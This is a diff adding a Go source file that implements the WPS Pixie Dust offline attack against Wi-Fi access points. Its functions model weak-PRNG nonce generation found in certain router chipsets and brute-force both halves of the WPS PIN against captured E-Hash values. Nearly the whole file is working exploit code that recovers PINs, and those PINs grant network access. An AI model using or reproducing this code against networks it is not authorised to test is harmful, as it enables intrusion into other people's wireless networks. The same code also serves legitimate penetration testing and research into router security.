@@ -0,0 +1,145 @@
+package packets
+
+import (
+	"crypto/hmac"
+	"encoding/binary"
+	"fmt"
+	"strconv"
+)
+
+// WPSPixieData contains everything collected from M1, M2 and M3 that is
+// needed to run the Pixie Dust offline attack.
+type WPSPixieData struct {
+	PKE     []byte
+	PKR     []byte
+	EHash1  []byte
+	EHash2  []byte
+	AuthKey []byte
+	ENonce  []byte
+}
+
+// WPSPixieResult is returned when the PIN has been recovered offline.
+type WPSPixieResult struct {
+	Mode string
+	PIN  string
+	ES1  []byte
+	ES2  []byte
+}
+
+// A pixie mode generates candidate E-S1/E-S2 secret nonces for an enrollee
+// using a weak PRNG, returns false if the enrollee data doesn't match it.
+type wpsPixieMode struct {
+	Name     string
+	Generate func(data *WPSPixieData) (bool, []byte, []byte)
+}
+
+var wpsPixieModes = []wpsPixieMode{
+	// Ralink, MediaTek and Celeno chipsets leave both secret nonces zeroed.
+	{"zero", func(data *WPSPixieData) (bool, []byte, []byte) {
+		zero := make([]byte, WPSNonceSize)
+		return true, zero, zero
+	}},
+	// eCos based firmwares using the "simplest" LCG, where each 32 bit output
+	// is the PRNG state itself and E-S1/E-S2 follow the enrollee nonce.
+	{"ecos-simplest", func(data *WPSPixieData) (bool, []byte, []byte) {
+		if len(data.ENonce) != WPSNonceSize {
+			return false, nil, nil
+		}
+
+		seed := binary.BigEndian.Uint32(data.ENonce)
+		for i := 4; i < WPSNonceSize; i += 4 {
+			seed = wpsECosSimplest(seed)
+			if binary.BigEndian.Uint32(data.ENonce[i:]) != seed {
+				return false, nil, nil
+			}
+		}
+
+		es1 := make([]byte, WPSNonceSize)
+		es2 := make([]byte, WPSNonceSize)
+		for _, buf := range [][]byte{es1, es2} {
+			for i := 0; i < WPSNonceSize; i += 4 {
+				seed = wpsECosSimplest(seed)
+				binary.BigEndian.PutUint32(buf[i:], seed)
+			}
+		}
+		return true, es1, es2
+	}},
+}
+
+func wpsECosSimplest(seed uint32) uint32 {
+	return seed*1103515245 + 12345
+}
+
+// WPSPixieModes returns the names of the supported Pixie Dust modes.
+func WPSPixieModes() []string {
+	names := make([]string, 0, len(wpsPixieModes))
+	for _, mode := range wpsPixieModes {
+		names = append(names, mode.Name)
+	}
+	return names
+}
+
+func (data *WPSPixieData) validate() error {
+	if len(data.PKE) != WPSPublicKeySize || len(data.PKR) != WPSPublicKeySize {
+		return fmt.Errorf("invalid public keys size (PKE=%d PKR=%d)", len(data.PKE), len(data.PKR))
+	} else if len(data.EHash1) != WPSHashSize || len(data.EHash2) != WPSHashSize {
+		return fmt.Errorf("invalid E-Hash size (E-Hash1=%d E-Hash2=%d)", len(data.EHash1), len(data.EHash2))
+	} else if len(data.AuthKey) != WPSAuthKeySize {
+		return fmt.Errorf("invalid AuthKey size %d", len(data.AuthKey))
+	}
+	return nil
+}
+
+func (data *WPSPixieData) crackHalf(es []byte, hash []byte, max uint, half func(n uint) string) (bool, string) {
+	for n := uint(0); n < max; n++ {
+		h := half(n)
+		if hmac.Equal(WPSHash(data.AuthKey, es, WPSPSK(data.AuthKey, h), data.PKE, data.PKR), hash) {
+			return true, h
+		}
+	}
+	return false, ""
+}
+
+// WPSPixieDust tries every known weak PRNG mode and, for each candidate pair of
+// secret nonces, brute forces the two halves of the PIN against E-Hash1 and E-Hash2.
+func WPSPixieDust(data *WPSPixieData) (*WPSPixieResult, error) {
+	if err := data.validate(); err != nil {
+		return nil, err
+	}
+
+	for _, mode := range wpsPixieModes {
+		ok, es1, es2 := mode.Generate(data)
+		if !ok {
+			continue
+		}
+
+		found, first := data.crackHalf(es1, data.EHash1, 10000, func(n uint) string {
+			return fmt.Sprintf("%04d", n)
+		})
+		if !found {
+			continue
+		}
+
+		firstNum, _ := strconv.Atoi(first)
+		found, second := data.crackHalf(es2, data.EHash2, 1000, func(n uint) string {
+			return WPSPinFromHalves(uint(firstNum), n)[4:]
+		})
+		if !found {
+			// some vendors don't use the checksum digit, try every possible value
+			found, second = data.crackHalf(es2, data.EHash2, 10000, func(n uint) string {
+				return fmt.Sprintf("%04d", n)
+			})
+		}
+
+		if found {
+			return &WPSPixieResult{
+				Mode: mode.Name,
+				PIN:  first + second,
+				ES1:  es1,
+				ES2:  es2,
+			}, nil
+		}
+	}
+
+	return nil, fmt.Errorf("enrollee is not vulnerable to any of the pixie dust modes (%v)", WPSPixieModes())
+}